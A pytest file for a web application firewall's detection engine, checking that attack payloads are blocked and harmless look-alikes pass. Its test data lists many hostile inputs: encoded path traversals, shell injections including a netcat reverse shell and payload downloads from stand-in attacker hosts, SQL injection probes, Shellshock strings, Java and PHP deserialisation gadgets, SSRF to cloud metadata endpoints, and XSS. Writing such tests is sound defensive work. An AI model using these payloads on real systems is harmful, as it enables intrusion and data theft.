"""Attack classes rather than strings: each class is written several ways, of our own
invention, and placed in every location a request has; benign look-alikes of each class
must pass. (Issue 19: the held-out corpus showed these classes getting through.)"""

from __future__ import annotations

import base64
import json
from urllib.parse import quote

import pytest
from detection_helpers import make_request

from bastion.stages.detection import DetectionEngine
from bastion.types import Request


def placements(payload: str, *, encoded: bool = False) -> dict[str, Request]:
    """``payload`` as a JSON field, a query value, a form field, a cookie, a custom header
    and a path segment. ``encoded``: the payload is already URL-encoded (an evasion), so
    it is sent as is where a URL or form carries it, and as text in JSON and headers."""
    enc = payload if encoded else quote(payload, safe="")
    return {
        "json": make_request(
            "/v1/notes", method="POST", body=json.dumps({"note": {"file": payload}}), content_type="application/json"
        ),
        "query": make_request(f"/v1/files?name={enc}&page=2"),
        "form": make_request(
            "/v1/notes", method="POST", body=f"title=x&file={enc}", content_type="application/x-www-form-urlencoded"
        ),
        "cookie": make_request("/v1/me", headers=[("Cookie", f"theme=dark; last={enc}")]),
        "header": make_request("/v1/me", headers=[("X-Template", payload)]),
        "path": make_request(f"/v1/files/{enc}/meta"),
    }


def blocked_everywhere(engine: DetectionEngine, payload: str, category: str, *, encoded: bool = False) -> None:
    for where, request in placements(payload, encoded=encoded).items():
        verdict = engine.evaluate(request)
        assert verdict.block_category == category, (payload, where, verdict.log_record())


def passes_everywhere(engine: DetectionEngine, text: str, *, encoded: bool = False) -> None:
    for where, request in placements(text, encoded=encoded).items():
        if where in ("header", "cookie", "path") and ("\n" in text or ";" in text):
            continue  # cannot be sent there as is
        verdict = engine.evaluate(request)
        assert verdict.block_category is None, (text, where, verdict.log_record())


# ------------------------------------------------------------------ 1. encoded traversal
#: A traversal whose dots and slashes are written the ways lenient decoders accept.
ENCODED_TRAVERSALS = [
    "%c0%2e%c0%2e%c0%2fconfig",  # overlong, lax continuation bytes
    "%e0%80%ae%e0%80%ae%e0%80%afapp.yml",  # three-byte overlong
    "..%f0%80%80%afsecrets",  # four-byte overlong slash
    "%uff0e%uff0e%u2216web.config",  # %u: fullwidth dots, set minus
    "%u002e%u002e/",  # %u of plain dots, a bare traversal
    "..%bg%qfreports",  # IIS lax hex digits
    "..%c0%9vuploads",  # lax hex continuation
    "%25c0%25ae%25c0%25ae%25c0%25afdata",  # double-encoded overlong
    "%252e%252e%255cboot",  # double-encoded, backslash
    "..%c1%9c..%c1%9cinetpub",  # overlong backslash
]


@pytest.mark.parametrize("payload", ENCODED_TRAVERSALS)
def test_encoded_traversal_is_blocked_in_every_location(engine: DetectionEngine, payload: str) -> None:
    """A single parent-directory step is blocked however its dots and slashes are encoded
    (overlong UTF-8 of any length, %u, IIS's lax hex, double encoding), in every location:
    the encoding itself is the evasion, and with the traversal it decodes to, it blocks."""
    blocked_everywhere(engine, payload, "path_traversal", encoded=True)


@pytest.mark.parametrize(
    "payload",
    ["..\u2215..\u2215etc\u2215hostname", "....//....//var/log/app.log", "..;/..;/manager/html"],
)
def test_traversal_spellings_that_normalise_to_dot_dot_slash(engine: DetectionEngine, payload: str) -> None:
    """Look-alike slashes as text, "....//" (what a filter deleting "../" once leaves as
    "../") and "..;/" (servlet containers drop the ";param") are traversals too."""
    blocked_everywhere(engine, payload, "path_traversal")


@pytest.mark.parametrize(
    "text",
    [
        "50%off today only, 100%good",
        "see ../docs/setup.md",
        "caf%C3%A9 cr%C3%A8me br%C3%BBl%C3%A9e",
        "1\u20442 cup of sugar, ¼ of the butter",
        "redirect=https%3A%2F%2Fexample.com%2Fa%252Fb",
        "..%2Fimages",
    ],
)
def test_encoding_look_alikes_pass(engine: DetectionEngine, text: str) -> None:
    """Percent signs in prose, a relative link, URL-encoded accents, a typographic fraction,
    a nested encoded URL and one URL-encoded parent step (how clients encode a relative
    path) are not traversals."""
    passes_everywhere(engine, text, encoded=True)


# ------------------------------------------------- 2. a line break is not a shell by itself
#: Text with ordinary words on their own lines that are also command names.
LINES_OF_PROSE_AND_CODE = [
    "query Order($id: ID!) {\n  order(id: $id) {\n    id\n    status\n    items { id sku }\n  }\n}",
    "fragment Who on Account {\n  id\n  handle\n}",
    "## Install\n\n```sh\npip install bastion-client\n```\n\nThen import it.",
    "Hello,\nI'd like to move my delivery to Friday.\nThanks, Aoife",
    "Hi\nId like a refund for order 1182 please",
    "Hola,\nsu pedido ha salido hoy.\nSaludos",
    "Bonjour,\nJe voudrais annuler ma commande.\nCordialement",
    "Hallo,\nich möchte die Adresse ändern.\nDanke",
    "Olá,\nid do pedido: 5521\nobrigado",
    "Notes:\nping me when you are back\nrev up the demo for Monday\nsh, the baby is asleep",
    "Columns\nid\nname\ncreated_at",
    "TODO\nls\n",
    "Hello\nID 4521 never arrived.\nRev 2 of the board fails too.\nId ... not sure what else",
]


@pytest.mark.parametrize("text", LINES_OF_PROSE_AND_CODE)
def test_words_on_their_own_line_are_not_commands(engine: DetectionEngine, text: str) -> None:
    """A line break followed by a word that happens to name a command ("id" in a GraphQL
    selection set, "I'd like" with its apostrophe removed, "su" in Spanish, "ping me") is
    prose or code, not a shell: it passes in a JSON field, a query and a form field."""
    passes_everywhere(engine, text)


@pytest.mark.parametrize(
    "payload",
    [
        "report.pdf\nid -a",
        "report.pdf\nuname -a",
        "eu-west\nping -c 4 10.1.2.3",
        "eu-west\nping 10.9.8.7",
        "x\nnc 198.51.100.7 9001 -e /bin/sh",
        "x\nwget files.example.net/run.sh",
        "ticket 42\nwhoami",
        "x;id",
        "x; id;",
        "x|id|",
        "x | nc attacker.example 9001",
        "x&& ping -n 3 127.0.0.1",
        "1;uname -a #",
        "a `id` b",
        "a $(whoami) b",
        "x;sleep 7",  # time-based probes
        "x & timeout 9 &",
        "x|printf 1337",
        "x; shred -u /var/log/auth.log",  # any program with shell arguments
        "x && kill -9 1",
        "x | xargs -0 -n1 rm",
        "x; lsblk $HOME",
        "x;grep -r secret /home/",
    ],
)
def test_commands_with_arguments_or_operators_are_blocked(engine: DetectionEngine, payload: str) -> None:
    """A command that reads as one (an option, an address, a path, a host name, an operator
    after it, or the end of the value after a line break) is still command injection."""
    for where in ("json", "query", "form"):
        verdict = engine.evaluate(placements(payload)[where])
        assert verdict.block_category == "cmdi", (payload, where, verdict.log_record())


# ------------------------------------------------------ 3. command chains and SQL probes
@pytest.mark.parametrize(
    "payload",
    [
        "|| /sbin/ip addr|",
        "&& tasklist /svc",
        "; netstat -tulpn",
        "&&/usr/local/bin/node -e 1",
        ";lsof -i :22",
        "||C:\\Windows\\System32\\systeminfo.exe >x",
        ";print_r(scandir('.'));//",
        "');assert(getenv('HOME'));#",
    ],
)
def test_command_chained_at_the_start_of_a_value_is_blocked(engine: DetectionEngine, payload: str) -> None:
    """A value that starts with a chain operator (``||``, ``&&``, ``;``) and then a program
    with an argument or an operator, a program in a bin directory, or a statement break
    and a function call, is command injection whatever the program's name."""
    for where in ("json", "query", "form", "header"):
        verdict = engine.evaluate(placements(payload)[where])
        assert verdict.block_category is not None, (payload, where, verdict.log_record())
        assert "cmdi" in {h.rule.category for h in verdict.hits}, (payload, where)


@pytest.mark.parametrize(
    "payload",
    [
        "7 or right(user(),2)='ot'",  # a word-named function compared, after a literal
        "0' and count(1) > 0 and '1'='1",
        "2 and hex(mid(database(),1,1))>30",
        "1 or @@hostname is not null",  # a system variable as an operand
        "select @@datadir",
        "select pg_backend_pid()",
        "select sqlite_version()",
        "x' union select table_name from user_tables--",  # system catalogues
        "select colname from syscat.columns",
        "select rdb$relation_name from rdb$relations",
        "select name from sys.sql_logins",
        "1 union select * from(information_schema.columns)",
        "'||dbms_xmlgen.getxml('select 1')||'",  # a package call concatenated into a string
        "'||(select user from dual)||'",
        "'||lower(version())||'",
        "note');create view v as select * from users;--",  # stacked DDL after a quote
        "x'; grant all on t to public;--",
        "\" or id=id --",  # a comparison of identifiers, then a comment
        "') or (pass<>pass)#",
        "x' and starts_with(passwd,'a')::int=1--",  # a PostgreSQL cast with another SQL signal
        "1 or '{\"role\":\"admin\"}'::jsonb <@ '{}'::jsonb",
        "'+convert(varchar,@@servername)+'",  # SQL Server's "+" concatenation
        "n' + @@language + '",
        "root'--",  # a quoted value cut off by a comment at its end
        "') or true--",
        "z' AND deleted_at IS NULL; --",
        "' having 1=1 --",
    ],
)
def test_sql_probes_are_blocked_as_classes(engine: DetectionEngine, payload: str) -> None:
    """Short SQL probes, by class: a boolean whose operand is an SQL function call or a
    system variable, SELECT of the server's identity, SELECT from a system catalogue of any
    engine, a string concatenated with a call, a stacked DDL/DCL statement after a quote,
    a quote break into any comparison followed by a comment. Each in JSON, query and form."""
    for where in ("json", "query", "form", "cookie"):
        verdict = engine.evaluate(placements(payload)[where])
        assert verdict.block_category == "sqli", (payload, where, verdict.log_record())


#: Prose and code that share words and shapes with the classes above.
SQL_AND_SHELL_LOOK_ALIKES = [
    "Turn left and right (carefully) at the second junction.",
    "Add the app version and user (optional) to the report.",
    "Or if (you prefer) we can call you back tomorrow.",
    "Please select the commit from master.",
    "Select a plan from dual-band routers or tri-band ones.",
    "To select modules from sys.modules in Python, use a loop.",
    "Select your database (Postgres or MySQL) from the list.",
    "if x and len(items) > 3:\n    print('many')",
    "def f(a, b):\n    return a and lower(b) == 'x'",
    "const name = user.name || 'anonymous';",
    "&& is the logical and of C; || is its or.",
    "; comment line of an ini file\nkey = value",
    "Use left(s, 3) to take the first three characters in Excel.",
    "I said 'no'; creating tables is not my job",
    "Wählen Sie links oder rechts (bitte) und dann die Version.",
    "Choisissez la version (ou l'utilisateur) dans la liste.",
    "Seleccione la base de datos (MySQL o Postgres) de la lista.",
    ";-) see you",
    "Steps: clone the repo; run make --debug when it fails",
    "Prices & rates -- see the table; page 5 has more",
    "SELECT now()::date AS today;",
    "std::string s; Foo::bar(); 'a'::b in Rust is not valid",
    "I'm learning C#",
    "const s = 'Total: ' + count(items) + \" items\";",
    "It's fine --",
    "Don't forget -- use code SPRING24",
]


@pytest.mark.parametrize("text", SQL_AND_SHELL_LOOK_ALIKES)
def test_sql_and_shell_look_alikes_pass(engine: DetectionEngine, text: str) -> None:
    """Function-like words in prose ("and right (carefully)"), Python and JavaScript
    operators, SELECT ... FROM in English, a leading ';' in an ini file: not injections."""
    passes_everywhere(engine, text)


# ------------------------------------------------------------- 4. payloads in a path segment
def path_with(payload: str) -> str:
    """``payload`` as one segment of a path the gateway's target parser accepts: characters
    a path may not carry are escaped, its own slashes are not (an encoded slash is refused)."""
    from bastion.routing.target import normalize_target

    target = "/v1/files/" + quote(payload, safe="/-._~!$&'()*+,;=:@") + "/meta"
    normalize_target(target.encode())  # raises if the gateway would refuse it with 400
    return target


@pytest.mark.parametrize(
    ("payload", "category"),
    [
        ("; bitsadmin /transfer j http://files.example.net/a.exe", "cmdi"),
        ("&& mshta http://x.example/a.hta", "cmdi"),
        ("|| /usr/local/bin/php -r phpinfo();", "cmdi"),
        ("1 or hex(database())>0", "sqli"),
        ("' union select password from users/*", "sqli"),
        ("..;/..;/manager/html", "path_traversal"),
        ("http://169.254.169.254/latest/meta-data/", "ssrf"),
        ("<svg/onload=alert(document.domain)>", "xss"),
    ],
)
def test_path_segment_is_inspected_as_strongly_as_a_query_value(
    engine: DetectionEngine, payload: str, category: str
) -> None:
    """An attack placed in a path segment, with its own slashes splitting it across
    segments, is blocked as it is in a query value: the rest of the path from the segment
    where it starts is an input too, so rules anchored at the start of a value see it."""
    query = engine.evaluate(make_request("/v1/files?name=" + quote(payload, safe="")))
    path = engine.evaluate(make_request(path_with(payload)))
    assert query.block_category == category, query.log_record()
    assert path.block_category == category, (path_with(payload), path.log_record())


def test_plain_api_paths_add_no_inputs() -> None:
    """A path of names and IDs has its whole and its segments as inputs, nothing more; a
    segment with payload characters adds the path from there (named ``path:N..``)."""
    from bastion.stages.detection.inspect import extract

    plain = [i.location for i in extract(make_request("/v1/users/42/orders/7f3a-b2")) if i.location.startswith("path")]
    assert plain == ["path", "path:0", "path:1", "path:2", "path:3", "path:4"]
    odd = [(i.location, i.value) for i in extract(make_request("/v1/x/;%20ls/tmp/y"))]
    assert ("path:2..", ";%20ls/tmp/y") in odd


@pytest.mark.parametrize(
    "payload",
    ["() { _; } >_[$($())] { id; }", "() { 0; }; uname -a", "(){ x;}; true", "()  {  :; } ; printenv"],
)
def test_value_starting_as_a_bash_function_is_blocked(engine: DetectionEngine, payload: str) -> None:
    """Bash imports a variable whose value starts with "() {" as a function (Shellshock and
    its parser variants), whatever the body: such a value is blocked in a header, a cookie,
    a query and a JSON field."""
    for where in ("header", "cookie", "query", "json"):
        verdict = engine.evaluate(placements(payload)[where])
        assert verdict.block_category == "cmdi", (payload, where, verdict.log_record())


@pytest.mark.parametrize(
    "text",
    [
        "Operators:\n&& chains on success\n|| chains on failure\n; always",
        "const f = () => { return 1; };",
        "f() { echo hi; }",
        "SELECT first_name\n  || ' '\n  || last_name AS name\nFROM people;",
    ],
)
def test_chains_on_a_later_line_of_code_pass(engine: DetectionEngine, text: str) -> None:
    """The start-of-value classes hold at the start of the value only, not of each line:
    notes listing shell operators line by line, an arrow function, a shell function, SQL
    concatenating on new lines are text and code, in a JSON field and a form field."""
    for where in ("json", "form"):
        verdict = engine.evaluate(placements(text)[where])
        assert verdict.block_category is None, (text, where, verdict.log_record())


@pytest.mark.parametrize("payload", ["../.env", "..%c0%af.npmrc", "..\\.kube\\config", "../.psql_history"])
def test_one_parent_step_to_a_credential_file_is_blocked(engine: DetectionEngine, payload: str) -> None:
    """One parent step to a file that holds credentials (an env file, a shell or database
    history, a registry or cluster config) is a traversal, however the step is encoded."""
    blocked_everywhere(engine, payload, "path_traversal", encoded=True)


def test_credential_file_names_in_prose_pass(engine: DetectionEngine) -> None:
    """Naming such a file in text, even as a path, is not a traversal."""
    passes_everywhere(engine, "Copy .env.example to .env, then see config/.env for the keys")


# ------------------------------------------- 7. the CRS families: RCE, PHP, Java, LDAP, protocol
#: Each class in a spelling of our own: cmd.exe loops, PHP calls of every kind, shell globbing,
#: whole-value command lines, Java gadget classes and serialised objects.
CODE_EXECUTION = [
    "for /l %n in (1,1,9) do ping -n 1 10.0.0.%n",  # 3025
    "FOR %# IN (x y) DO type %#",
    'if /i "%role%"=="admin" net user',
    "file_put_contents('s.php', $_POST[0]);",  # 3026, 3029
    "highlight_file   /* x */ ('conf.php')",
    "base64_decode#c\n('aWQ=')",
    "unserialize($_COOKIE['cart'])",  # 3027
    "require_once($incpath)",
    "system(uname)",
    "(passthru)('ls -l');",  # 3028
    "'ex'.'ec'('whoami');",
    "$fn=@$_REQUEST{7}(8)",
    "${'_'.'GET'}[0]($_GET[1])",
    "$_SERVER['HTTP_X']",  # 3029
    "<?\tprint(1);",  # 3030
    "[php]passthru('w')[/php]",
    "-d allow_url_include=on",
    "/???/c?t /e?c/p??swd",  # 3031
    "; /b[i]n/l[s] -al",
    "less /etc/sha[d]ow",
    "/usr/local/bin/python3 -c 'import os'",  # 3032
    "xzcat -d /var/backups/db.xz",
    "dash -c \"id\"",
    "cd /tmp && wget x.example/a",
    "alias ll=rm",
    "strace whoami",
    "java.lang.ProcessBuilder",  # 3033
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
]


@pytest.mark.parametrize("payload", CODE_EXECUTION)
def test_code_execution_classes_are_blocked_in_every_location(engine: DetectionEngine, payload: str) -> None:
    """PHP, cmd.exe, shell-glob, command-line and Java execution shapes are refused wherever they are."""
    blocked_everywhere(engine, payload, "cmdi")


@pytest.mark.parametrize(
    ("payload", "category"),
    [
        ("0x2e0x2e0x2fetc", "path_traversal"),  # 4009
        ("/proc/1/environ", "path_traversal"),  # 4003
        ("file=/sys/kernel/debug", "path_traversal"),
        ("admin)(|(uid=*", "ldapi"),  # 8006
        ("guest)(&)", "ldapi"),
        ("x\r\nDELETE /v1/users/7 HTTP/1.1", "crlf"),  # 12003
        ("<script>document.cookie=\"sid=attacker\"</script>", "crlf"),  # 12004
        ("<meta http-equiv=\"Set-Cookie\" content=\"sid=1\">", "crlf"),
    ],
)
def test_protocol_ldap_and_hex_traversal_classes_are_blocked(engine: DetectionEngine, payload: str,
                                                             category: str) -> None:
    """A smuggled request line, a cookie set by injected markup, an LDAP filter closed and
    reopened and a traversal in hex literals are refused in the body and the query."""
    for where, request in placements(payload).items():
        if where in ("header", "cookie", "path") and ("\n" in payload or ";" in payload or '"' in payload):
            continue
        verdict = engine.evaluate(request)
        assert verdict.block_category is not None, (payload, where, verdict.log_record())
        assert category in {h.rule.category for h in verdict.hits}, (payload, where)


#: What shares a word or a character with those classes in real API traffic.
CODE_EXECUTION_LOOK_ALIKES = [
    "for 50% in (most) cases the loop is fine",
    "Paid $5 (five dollars) for shipping",
    "Use count($items) in the template",  # not one of the listed functions
    "The system (as designed) works",
    "eval (the evaluation) is due on Friday",
    "<? should this be escaped",
    "$scope.load(items)",
    "glob pattern /*/*.json matches both",
    "routes: /v1/*/items",
    "Run the tests with pytest -q tests/unit",
    "cd into the folder, then run make",
    "An alias is another name",
    "Caused by: java.lang.NullPointerException at java.lang.Thread.run(Thread.java:833)",
    "java.lang.IllegalStateException: Failed to load ApplicationContext\n"
    "\tat org.springframework.beans.factory.support.AbstractBeanFactory.getBean(AbstractBeanFactory.java:208)\n"
    "\tat org.springframework.context.support.AbstractApplicationContext.refresh(AbstractApplicationContext.java:583)\n"
    "\tat java.base/java.lang.ClassLoader.loadClass(ClassLoader.java:521)\n"
    "\tat java.net.URLClassLoader.findClass(URLClassLoader.java:445)\n"
    "\tat com.sun.org.apache.xerces.internal.parsers.DOMParser.parse(DOMParser.java:247)\n"
    "\tat com.zaxxer.hikari.pool.HikariPool.createPoolEntry(HikariPool.java:476)\n"
    "\tat groovy.lang.MetaClassImpl.invokeMethod(MetaClassImpl.java:1254)\n",
    "java.io.IOException: Broken pipe",
    "function f(a)(b) { return a + b }",
    "0x2e is the code of a dot",
    "Time is short, strace the process later",
    "logs in /var/log/app[1].log",
    "If you need 20% more, ask",
    "the sys class and the proc module",
    '<button @click="copy($event)" v-on:change="file($event)">Copy</button>',
    '<li ng-click="rename($event, item)">',
    "Click the dl (download) link",
    "GET /v1/orders is documented on the reference page",
    "Set document.title = 'Orders' when the page loads",
    "Order total (with VAT) = 12.50",
]


@pytest.mark.parametrize("text", CODE_EXECUTION_LOOK_ALIKES)
def test_code_execution_look_alikes_pass(engine: DetectionEngine, text: str) -> None:
    """Prose and code that share words or characters with the new classes pass everywhere."""
    passes_everywhere(engine, text)


# ------------------------------------------------- 8. a class name as the whole value (Java)
#: A value or a name that is only a class a polymorphic deserialiser would load.
JAVA_TYPE_NAMES = [
    "java.lang.reflect.Method",
    "javax.management.MBeanServerInvocationHandler",
    "sun.misc.Unsafe",
    "java.net.URLClassLoader",
    "org.springframework.context.support.FileSystemXmlApplicationContext",
    "java.util.PriorityQueue",
    " org.apache.commons.io.output.DeferredFileOutputStream ",
    "java.io.FileOutputStream[]",
    "org.omg.CORBA.portable.InputStream",
    "com.sun.jndi.toolkit.url.GenericURLContext",
]


@pytest.mark.parametrize("payload", JAVA_TYPE_NAMES)
def test_a_value_that_is_only_a_java_class_is_blocked(engine: DetectionEngine, payload: str) -> None:
    """A Java platform or gadget library class name as a whole value is refused in every location."""
    blocked_everywhere(engine, payload, "cmdi")


def test_a_json_key_that_is_only_a_java_class_is_blocked(engine: DetectionEngine) -> None:
    """Names are inputs too: a class name as a JSON key (XStream's and fastjson's shape) is refused."""
    body = json.dumps({"java.util.PriorityQueue": {"comparator": "x"}})
    request = make_request("/v1/notes", method="POST", body=body, content_type="application/json")
    assert engine.evaluate(request).block_category == "cmdi"


@pytest.mark.parametrize(
    "text",
    [
        "java.com",
        "sun.example.com",
        "clojure.org",
        "jdk.java.net",
        "The javadoc of java.io.File says it is immutable",
        "at java.io.FileInputStream.open0(Native Method)",
        "java.lang.OutOfMemoryError: Java heap space",
        "com.example.orders.OrderService",
        "org.apache",
    ],
)
def test_java_names_with_more_around_them_pass(engine: DetectionEngine, text: str) -> None:
    """Domains, application classes, and platform classes inside prose or a stack trace pass."""
    passes_everywhere(engine, text)


# ------------------------------------------------------ 9. cmd.exe's IF and FOR, every form
WINDOWS_CONDITIONALS = [
    "if exist C:\\inetpub\\web.config type C:\\inetpub\\web.config",
    "IF /I NOT EXIST backup.zip (copy db.mdf backup.zip)",
    "if not defined TOKEN set TOKEN=stolen",
    "if errorlevel 1 goto retry",
    "IF CMDEXTVERSION 2 call run.bat",
    'if /i "%USERNAME%"=="administrator" net user x y /add',
    "if [%2]==[] echo missing",
    "if not (5 gtr 3) echo no",
    "for /f \"usebackq delims=\" %% in (`whoami`) do echo %%",
]


@pytest.mark.parametrize("payload", WINDOWS_CONDITIONALS)
def test_windows_conditionals_and_loops_are_blocked(engine: DetectionEngine, payload: str) -> None:
    """cmd.exe's IF tests (a file, a variable, an exit code, a comparison) followed by a
    command, and FOR over an unnamed %% variable, are refused wherever they are."""
    for where, request in placements(payload).items():
        if where in ("header", "cookie", "path") and ('"' in payload or "`" in payload or ";" in payload):
            continue
        verdict = engine.evaluate(request)
        assert verdict.block_category == "cmdi", (payload, where, verdict.log_record())


@pytest.mark.parametrize(
    "text",
    [
        "If not defined yet, set it in the settings page",
        "if defined, call the handler",
        "if (argc == 1) exit(1);",
        "if (ptr == NULL) goto fail;",
        "if x == 1 then print(x) end",
        "if a == b: return None",
        "If errorlevels rise, call us",
        "Check if exist is spelled right",
    ],
)
def test_if_in_prose_and_other_languages_passes(engine: DetectionEngine, text: str) -> None:
    """Prose about what is defined and conditionals of C, Lua and Python pass."""
    passes_everywhere(engine, text)


# ------------------------- 10. server-side JavaScript, PHP objects, JSON in SQL, internal hosts
@pytest.mark.parametrize(
    ("payload", "category"),
    [
        ('{"run":"_$$ND_FUNC$$_function(){return 1}()"}', "cmdi"),  # 3036
        ("new Function ('return this')()", "cmdi"),
        ("[].constructor.constructor('return process')()", "cmdi"),
        ("$3:constructor:constructor", "cmdi"),
        ("global.process.mainModule.require('fs')", "cmdi"),
        ("process['binding']('spawn_sync')", "cmdi"),
        ("require.main.constructor._load('os')", "cmdi"),
        ("while (!null) {}", "cmdi"),  # 3037
        ("while(!!{}) x++", "cmdi"),
        ("while (1);", "cmdi"),
        ('O:6:"Logger":1:{s:4:"file";s:9:"/tmp/x.ph";}', "cmdi"),  # 3038
        ('a:1:{i:0;C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}}', "cmdi"),
        ("and '{\"role\":1}'::json @> '{}'", "sqli"),  # 1030
        ("x' or '[3]' ? '3", "sqli"),
        ("1 AND '{\"k\":[2]}' -> '$.k[0]' = 2", "sqli"),
        ("localhost:6379/", "ssrf"),  # 6003
        ("host.docker.internal/v1.41/containers/json", "ssrf"),
        ("metadata.google.internal/computeMetadata/v1/", "ssrf"),
    ],
)
def test_code_loops_objects_json_sql_and_internal_hosts_are_blocked(
    engine: DetectionEngine, payload: str, category: str
) -> None:
    """Server-side JavaScript, constant infinite loops, PHP serialised objects, JSON
    literals compared in SQL and scheme-less internal hosts are refused wherever they are."""
    for where, request in placements(payload).items():
        if where in ("header", "cookie", "path") and any(c in payload for c in "\";\n"):
            continue
        verdict = engine.evaluate(request)
        assert verdict.block_category == category, (payload, where, verdict.log_record())


@pytest.mark.parametrize(
    "text",
    [
        "while (true) { poll(); }",
        "    n = next();\n} while (true);\nreturn n;",  # the end of a do-while
        "while (!done) { step(); }",
        "const fn = function () { return 1 }",
        "Read process.env.PORT before listening",
        "The constructor's constructor argument is optional",
        "O:3 in the second half",
        "SELECT data->>'name' FROM users WHERE data @> '{\"active\": true}'",
        "localhost",
        "Try localhost:8080 in your browser",
        "https://localhost.example.com/",
        "an image: data:image/png;base64,iVBORw0KGgo=",
    ],
)
def test_look_alikes_of_code_objects_and_hosts_pass(engine: DetectionEngine, text: str) -> None:
    """Ordinary loops, function expressions, prose about process.env, a query that
    compares a column with JSON, and a host named in prose pass."""
    passes_everywhere(engine, text)


@pytest.mark.parametrize(
    "payload",
    [" rO0ABXNyABFqYXZh", " java.io.File ", " localhost:2375/", "  while (1);", " /usr/bin/id -a"],
)
def test_whole_value_rules_hold_after_any_other_input(engine: DetectionEngine, payload: str) -> None:
    """Rules anchored at a value's start still match when the value, with leading spaces,
    follows other inputs in the one buffer the engine scans (a hyperscan database with two
    such rules written with an unbounded leading ``[ \\t]*`` once missed them after
    ``application/json``)."""
    body = json.dumps({"kind": "application/json", "ref": "json", "value": payload})
    request = make_request("/v1/notes", method="POST", body=body, content_type="application/json")
    assert engine.evaluate(request).block_category is not None, payload


# ------------- 11. SQL-only functions and catalogues, evasive markup, PHP and shell evasions
EVASION_CLASSES = [
    ("1 and sqlite_compileoption_used ('ENABLE_JSON1')", "sqli"),  # 1031
    ("x' || utl_inaddr.get_host_name((select user from dual)) || '", "sqli"),
    ("find_in_set('7', roles)", "sqli"),
    ("jsonb_object_keys(profile)", "sqli"),
    ("PG_CATALOG", "sqli"),  # 1032
    ("`information_schema`", "sqli"),
    ("2; INSERT /*x*/ INTO accounts (name, role) VALUES ('m', 'admin')", "sqli"),
    ("9 procedure analyse(extractvalue(1,1),1)", "sqli"),
    ("<s c r i p t>", "xss"),  # 2025
    ("< svg: script src=//x>", "xss"),
    ("abc' onfocusin=", "xss"),
    ("[1].map.call`${eval}x`", "xss"),
    ("passthru /* run */ ('id')", "cmdi"),  # 3039
    ("assert#\n($_POST[1])", "cmdi"),
    ("<? php echo 1;", "cmdi"),
    ("<?xml :print 2;", "cmdi"),
    ("${\"_SERVER\"}", "cmdi"),
    ("['exec'][0]('id')", "cmdi"),
    ("<(curl -s x.example)", "cmdi"),  # 3040
    ("${SHELL} -c id", "cmdi"),
    ("|$x curl x.example", "cmdi"),
    (";printenv", "cmdi"),
    ("&& netstat", "cmdi"),
    ("\\whoami", "cmdi"),
    ("~-2", "cmdi"),
    ("{,uname,-a}", "cmdi"),
]


@pytest.mark.parametrize(("payload", "category"), EVASION_CLASSES)
def test_sql_markup_php_and_shell_evasions_are_blocked(engine: DetectionEngine, payload: str, category: str) -> None:
    """SQL-only functions, catalogue names, stacked INSERTs, split or namespaced tags,
    PHP's and the shell's own syntax evasions are refused wherever they can be sent."""
    for where, request in placements(payload).items():
        if where in ("header", "cookie", "path") and any(c in payload for c in "\";\n"):
            continue
        verdict = engine.evaluate(request)
        assert verdict.block_category == category, (payload, where, verdict.log_record())


@pytest.mark.parametrize(
    "text",
    [
        "Benchmarks are in docs/benchmarks.md",
        "The schema_name field is required",
        "see information_schema in the MySQL manual",
        "Insert into the form; values are saved",
        "I'm so mad >( but fine",
        "x => (a) + b",
        "total = $ { amount }",
        "Price: $ {total}",
        "file (the one I sent) is attached",
        "<?xml version=\"1.0\"?><note>hi</note>",
        "the online=true flag",
        "a { display: none }",
        "{a,b}",
        "~ 5 km",
        "; see above",
        "use `set -e` in scripts",
        "const t = `${user.name} joined`",
    ],
)
def test_look_alikes_of_the_evasion_classes_pass(engine: DetectionEngine, text: str) -> None:
    """Prose, templates, CSS, emoticons and XML that share characters with these classes pass."""
    passes_everywhere(engine, text)


# -------------------------------------- 12. a line break where none can be: path and names
@pytest.mark.parametrize(
    "target",
    [
        "/v1/files/report%0Ainfo.php",  # a segment (FastCGI's PATH_INFO split)
        "/v1/items?id=7&%0d%0aX-Forwarded-For:%20127.0.0.1=1",  # a parameter name
        "/v1/items?%0Dnext=2",
    ],
)
def test_a_line_break_in_the_path_or_a_name_is_blocked(engine: DetectionEngine, target: str) -> None:
    """A decoded CR or LF in the path or in a parameter name (header injection through a
    name, a path split for a FastCGI backend) is refused at the default paranoia."""
    verdict = engine.evaluate(make_request(target))
    assert verdict.block_category == "crlf", verdict.log_record()
    assert 12902 in {h.rule.id for h in verdict.hits}


def test_a_line_break_in_a_value_is_not_a_name_one(engine: DetectionEngine) -> None:
    """Multi-line text in a query value, a form field, a JSON string or a cookie value passes."""
    text = "first line\nsecond line"
    enc = quote(text, safe="")
    for request in (
        make_request(f"/v1/search?q={enc}"),
        make_request("/v1/notes", method="POST", body=f"note={enc}", content_type="application/x-www-form-urlencoded"),
        make_request("/v1/notes", method="POST", body=json.dumps({"note": text}), content_type="application/json"),
    ):
        assert engine.evaluate(request).block_category is None


def test_a_line_break_seen_clean_in_a_value_is_still_checked_in_a_name() -> None:
    """A value remembered as clean in a JSON body is still refused when it arrives as a
    parameter name, where a line break never belongs."""
    from bastion.stages.detection import DetectionConfig

    fresh = DetectionEngine(DetectionConfig())
    text = "a\nb"
    body = make_request("/n", method="POST", body=json.dumps({"note": text}), content_type="application/json")
    assert fresh.evaluate(body).block_category is None
    assert fresh.evaluate(make_request(f"/n?{quote(text, safe='')}=1")).block_category == "crlf"


# ----------------------------------------- 13. session fixation: a session cookie in a link
@pytest.mark.parametrize(
    "request_",
    [
        make_request("/v1/login?PHPSESSID=0123abcd", headers=[("Referer", "https://evil.example/")]),
        make_request("/v1/login?laravel_session=eyJpdiI6"),
        make_request("/v1/cart?ASPSESSIONIDQQGGQGPB=KLMNOPQR&item=3"),
        make_request(
            "/v1/login",
            method="POST",
            body="connect.sid=s%3Aabc&user=a",
            content_type="application/x-www-form-urlencoded",
        ),
    ],
    ids=["php", "laravel", "asp", "form"],
)
def test_a_session_cookie_sent_as_a_parameter_is_blocked(engine: DetectionEngine, request_: Request) -> None:
    """A framework's session cookie named as a query or form parameter, with another site's
    Referer or none, is refused: that is how a link fixes a victim's session."""
    verdict = engine.evaluate(request_)
    assert verdict.block_category == "crlf", verdict.log_record()
    assert 12005 in {h.rule.id for h in verdict.hits}


def test_session_cookies_as_cookies_and_own_links_pass(engine: DetectionEngine) -> None:
    """The cookie itself, the site's own rewritten link (same-host Referer) and an API's
